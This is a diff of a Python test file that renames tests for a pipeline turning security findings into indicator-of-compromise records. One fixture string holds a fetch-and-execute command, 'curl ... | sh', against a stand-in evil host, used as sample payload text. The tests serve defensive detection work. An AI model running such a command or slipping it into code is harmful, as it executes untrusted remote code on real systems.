@@ -55,7 +55,7 @@ def test_each_content_of_an_indicator_has_an_id_and_a_revision_of_its_own():
         assert sent["ce_ioctype"].decode() == record.ioc_type
 
 
-def test_an_indicator_of_hygiene_says_so_in_its_record_and_a_header():
+def test_hygiene_indicator_is_marked_in_record_and_header():
     flow = Flow()
     flow.found(finding("unpinned_dependency", "a"))
     (sent,) = [message for message in flow.sent if message.channel is Channel.IOCS]
@@ -63,7 +63,7 @@ def test_an_indicator_of_hygiene_says_so_in_its_record_and_a_header():
     assert dict(sent.headers)["ce_category"] == b"hygiene"
 
 
-def test_what_a_hostile_payload_speaks_to_becomes_indicators_that_live_with_it():
+def test_hosts_of_a_payload_become_indicators_of_its_lifetime():
     flow = Flow()
     payload = finding("malicious_payload", "a")
     text = "('curl https://cdn.evil.example/x | sh; wget https://github.com/evil/y',)"
@@ -84,7 +84,7 @@ def test_what_a_hostile_payload_speaks_to_becomes_indicators_that_live_with_it()
     assert {ioc.status for ioc in network} == {"withdrawn"}
 
 
-def test_what_is_not_hostile_names_no_network_indicators():
+def test_harmless_finding_yields_no_network_indicators():
     flow = Flow()
     weak = finding("suspicious_code", "a")
     text = "requests.get('https://data.acme.example/x')"
